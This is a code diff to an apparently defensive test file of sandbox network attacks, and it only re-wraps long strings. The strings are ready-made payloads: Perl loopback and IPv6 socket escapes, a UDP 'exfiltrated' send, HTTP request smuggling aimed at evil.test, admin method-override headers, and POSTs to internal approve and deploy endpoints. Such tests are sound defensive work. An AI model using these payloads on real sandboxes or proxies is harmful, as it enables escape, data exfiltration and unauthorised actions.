@@ -111,7 +111,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 		'--noproxy, raw sockets, services on loopback',
 		'127.0.0.1',
 		port =>
-			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}); print $s ? <$s> : "no: $!"'`,
+			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}); ` +
+			`print $s ? <$s> : "no: $!"'`,
 	),
 	dialling(
 		'direct-dial-shell',
@@ -128,7 +129,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 					'guards that know IPv4 only',
 					'::1',
 					port =>
-						`perl -MSocket=:all -e 'socket(S, AF_INET6, SOCK_STREAM, 0); print connect(S, pack_sockaddr_in6(${port}, inet_pton(AF_INET6, "::1"))) ? <S> : "no: $!"'`,
+						"perl -MSocket=:all -e 'socket(S, AF_INET6, SOCK_STREAM, 0); " +
+						`print connect(S, pack_sockaddr_in6(${port}, inet_pton(AF_INET6, "::1"))) ? <S> : "no: $!"'`,
 				),
 			]
 		: []),
@@ -141,7 +143,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 		network: false,
 		prepare: () => udpBait(),
 		script: (_box, {port}) =>
-			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, Proto => "udp"); print $s->send("exfiltrated") if $s'`,
+			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, ` +
+			`Proto => "udp"); print $s->send("exfiltrated") if $s'`,
 		async came(_result, _box, bait) {
 			await pause(150);
 			return bait.hits!() > 0;
@@ -390,7 +393,9 @@ export const networkAttacks: readonly SandboxAttack[] = [
 			return {...bait, hits: () => hits};
 		},
 		script: (_box, {port}) =>
-			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128); print $s "CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\n"; sysread($s, $b, 200); print $b; print $s "${hello('evil.test')}"; $s->flush; $SIG{ALRM} = sub { exit }; alarm 1; sysread($s, $b, 1)'`,
+			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128); ` +
+			`print $s "CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\n"; sysread($s, $b, 200); print $b; ` +
+			`print $s "${hello('evil.test')}"; $s->flush; $SIG{ALRM} = sub { exit }; alarm 1; sysread($s, $b, 1)'`,
 		came: (_result, _box, bait) => bait.hits!() > 0,
 	},
 	{
@@ -409,7 +414,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 		},
 		script: (_box, {port}) =>
 			viaProxy(
-				`POST http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
+				`POST http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n` +
+					'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
 			),
 		came: (_result, _box, bait) => bait.hits!() > 0,
 	},
@@ -431,7 +437,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 			['Connection: keep-alive, content-length\\r\\n', 'Proxy-Connection: content-length\\r\\n', '']
 				.map(named =>
 					viaProxy(
-						`GET http://${hostName}:${port}/open/a HTTP/1.1\\r\\nHost: x\\r\\n${named}Content-Length: 44\\r\\n\\r\\nPOST /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
+						`GET http://${hostName}:${port}/open/a HTTP/1.1\\r\\nHost: x\\r\\n${named}` +
+							'Content-Length: 44\\r\\n\\r\\nPOST /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
 					),
 				)
 				.join('\n'),
@@ -482,7 +489,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 			[
 				...['POST', 'PUT', 'DELETE', 'PROPFIND'].map(method =>
 					viaProxy(
-						`${method} http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n`,
+						`${method} http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n` +
+							'Connection: close\\r\\n\\r\\n',
 					),
 				),
 				...['X-HTTP-Method-Override: DELETE', 'x_http_method: DELETE', 'X-Original-URL: /admin'].map(header =>
@@ -507,7 +515,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 		},
 		script: (_box, {port}) =>
 			viaProxy(
-				`CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n`,
+				`CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\n` +
+					'Connection: close\\r\\n\\r\\n',
 			),
 		came: (_result, _box, bait) => bait.hits!() > 0,
 	},
@@ -565,7 +574,8 @@ export const networkAttacks: readonly SandboxAttack[] = [
 			['allow', 'approve', 'merge', 'deploy']
 				.map(what =>
 					viaProxy(
-						`POST http://fleet.internal/${what} HTTP/1.1\\r\\nHost: fleet.internal\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n`,
+						`POST http://fleet.internal/${what} HTTP/1.1\\r\\nHost: fleet.internal\\r\\n` +
+							'Content-Length: 0\\r\\nConnection: close\\r\\n\\r\\n',
 					),
 				)
 				.join('\n'),
